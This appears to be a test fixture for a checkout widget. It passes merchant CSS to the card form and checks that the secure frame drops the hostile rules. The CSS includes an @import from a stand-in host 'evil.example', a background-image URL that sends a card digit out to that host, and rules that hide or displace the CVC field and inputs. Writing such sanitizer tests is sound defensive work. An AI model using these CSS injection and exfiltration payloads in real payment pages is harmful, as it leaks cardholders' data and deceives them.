// A merchant styling the card form with `card.styles`: some of it restyles the form, some of it
// would hide or move a field or load a resource, which the secure frame must drop (and say so).
import { loadSdk, newCheckout } from "./page.js";

const checkout = await newCheckout();
await loadSdk(checkout.api_url);
await CheckoutWidget.mount("#widget", {
  publicApiKey: checkout.public_api_key,
  checkoutSession: checkout.checkout_session,
  countryCode: checkout.country,
  apiUrl: checkout.api_url,
  language: "en",
  card: {
    styles: `
      @import url("https://evil.example/more.css");
      input { color: rgb(1, 2, 3); border-top-left-radius: 9px; }
      #cw-cvc { display: none; }
      .cw-field input { background-image: url("https://evil.example/leak?digit=4"); }
      @media (min-width: 1px) { input { visibility: hidden; } }
      label { margin-left: -9999px; }
      .cw-field { & input { opacity: 0; } }
    `,
  },
  onToken() {},
  onReady() {
    document.getElementById("result").textContent = "ready";
  },
});
